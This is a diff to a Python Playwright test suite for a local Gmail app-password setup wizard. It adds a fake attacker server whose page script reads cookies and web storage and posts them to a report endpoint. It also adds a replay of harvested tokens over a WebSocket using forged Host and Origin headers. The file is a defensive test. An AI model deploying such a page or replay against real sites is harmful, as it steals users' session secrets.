@@ -103,7 +103,7 @@ def test_practice_flow_in_a_real_browser(chromium: str, served) -> None:
                 "navigator.clipboard.writeText = async (text) => { window.__copied = text; };"
             )
             screen = TerminalStream(page)
-            page.goto(address)  # the secret address serve printed; the page then lives on a cookie
+            page.goto(address)  # the secret address serve printed; the page keeps it in its tab
             assert page.url == f"http://127.0.0.1:{port}/"  # the secret left the address bar
             screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
             page.mouse.click(600, 700)  # give the terminal the keyboard
@@ -153,16 +153,142 @@ def test_practice_flow_in_a_real_browser(chromium: str, served) -> None:
             screen.wait_for("設定は")  # setup was completed: a new test send or starting over
             screen.wait_for("もう一度テスト送信する")
             # Another browser profile (or user) without the secret gets nothing.
-            stranger = browser.new_context().new_page()
-            response = stranger.goto(f"http://127.0.0.1:{port}/")
-            assert response.status == 403
-            assert "ターミナルに表示されたアドレス" in stranger.content()
+            assert_refused_without_the_secret(browser, port, "ターミナルに表示されたアドレス")
         finally:
             browser.close()
     saved = json.loads(progress_file.read_text(encoding="utf-8"))
     assert (saved["email"], saved["display_name"], saved["furthest"]) == ("ecrea.test@gmail.com", "Ecrea", "paste-into-ecrea")
     assert saved["completed"] == ["manage-account", "open-security", "create-app-password", "copy-app-password", "paste-into-ecrea"]
     assert saved["setup_completed_at"]
+
+
+def assert_refused_without_the_secret(browser, port: int, refusal: str) -> None:
+    """A browser profile (or user) without the secret: the page sends it to the refusal, status 403."""
+    stranger = browser.new_context().new_page()
+    with stranger.expect_response(f"http://127.0.0.1:{port}/denied") as refused:
+        stranger.goto(f"http://127.0.0.1:{port}/")
+    assert refused.value.status == 403
+    stranger.wait_for_url(f"http://127.0.0.1:{port}/denied")
+    assert refusal in stranger.content()
+    assert stranger.evaluate("sessionStorage.length") == 0
+
+
+class RecordingServer:
+    """Another web server on this computer, as an attacker would run one: it keeps every byte a browser sends it.
+
+    Its page also reports what it can read from inside the browser (cookies, storage) and
+    asks the wizard's server for its page with credentials, as a hostile page would.
+    """
+
+    def __init__(self, wizard_port: int) -> None:
+        import http.server
+        import threading
+
+        self.port = free_port()
+        self.received: list[bytes] = []
+        self.reports = 0
+        recorder = self
+        page = (
+            "<!doctype html><script>"
+            f"fetch('http://127.0.0.1:{wizard_port}/', {{mode: 'no-cors', credentials: 'include'}}).finally(() =>"
+            " fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie,"
+            " session: Object.entries(sessionStorage), local: Object.entries(localStorage),"
+            " address: location.href, referrer: document.referrer})}));"
+            "</script>"
+        ).encode()
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                recorder.received.append(self.requestline.encode() + b"\n" + bytes(self.headers))
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(page)
+
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
+                recorder.received.append(self.requestline.encode() + b"\n" + bytes(self.headers) + body)
+                recorder.reports += 1
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_no_other_local_page_receives_the_secret(chromium: str, served) -> None:
+    """Browsers send a host's cookies to all its ports; the secret is in no cookie, and no other port gets it."""
+    import asyncio
+
+    import aiohttp
+    from playwright.sync_api import sync_playwright
+
+    port, address, _ = served
+    secret = address.partition("#")[2]
+    recorder = RecordingServer(port)
+    try:
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_FLAGS)
+            try:
+                context = browser.new_context()
+                wizard = context.new_page()
+                screen = TerminalStream(wizard)
+                wizard.goto(address)
+                screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
+                assert wizard.url == f"http://127.0.0.1:{port}/"
+                # The user's browser, the wizard still open, visits other pages on this computer.
+                for host in ("127.0.0.1", "localhost"):
+                    other = context.new_page()
+                    before = recorder.reports
+                    other.goto(f"http://{host}:{recorder.port}/attack.html")
+                    deadline = time.monotonic() + 20
+                    while recorder.reports == before:
+                        assert time.monotonic() < deadline, "the other page never reported"
+                        other.wait_for_timeout(50)
+                    other.close()
+                # Following a link from the wizard's own tab is no different.
+                wizard.evaluate(f"location.href = 'http://127.0.0.1:{recorder.port}/from-the-wizard-tab'")
+                wizard.wait_for_url(f"http://127.0.0.1:{recorder.port}/from-the-wizard-tab")
+                wizard.go_back()
+                wizard.wait_for_url(f"http://127.0.0.1:{port}/")
+                screen.chunks.clear()
+                wizard.reload()  # the tab still holds its secret: the wizard comes back
+                screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
+                assert_refused_without_the_secret(browser, port, "ターミナルに表示されたアドレス")
+            finally:
+                browser.close()
+    finally:
+        recorder.close()
+    received = b"\n".join(recorder.received)
+    assert len(recorder.received) >= 5 and recorder.reports >= 2
+    assert secret.encode() not in received
+    assert b"cookie:" not in received.lower()  # nothing at all: the wizard sets no cookie
+
+    async def replay() -> list[int]:
+        """Everything the other server saw, presented as the secret, from a forged Host and Origin."""
+        candidates = {"", *re.findall(r"[\w-]{16,}", received.decode("utf-8", "replace"))}
+        statuses = []
+        async with aiohttp.ClientSession() as session:
+            for candidate in candidates:
+                try:
+                    async with session.ws_connect(
+                        f"ws://127.0.0.1:{port}/ws/{candidate}", origin=f"http://127.0.0.1:{port}",
+                        headers={"Host": f"127.0.0.1:{port}"},
+                    ):
+                        statuses.append(101)
+                except aiohttp.WSServerHandshakeError as refused:
+                    statuses.append(refused.status)
+        return statuses
+
+    statuses = asyncio.run(replay())
+    assert statuses and set(statuses) == {403}
 
 
 def test_serve_listens_on_loopback_only(served) -> None:
@@ -183,7 +309,7 @@ def test_only_an_explicit_host_leaves_loopback(monkeypatch, capsys, host, bound,
         def serve(self) -> None:
             pass
 
-    def build(command: str, guard, host: str, port: int, title: str) -> FakeServer:
+    def build(command: str, guard, host: str, port: int, title: str, page=None) -> FakeServer:
         started.update(command=command, host=host, port=port)
         return FakeServer()
 
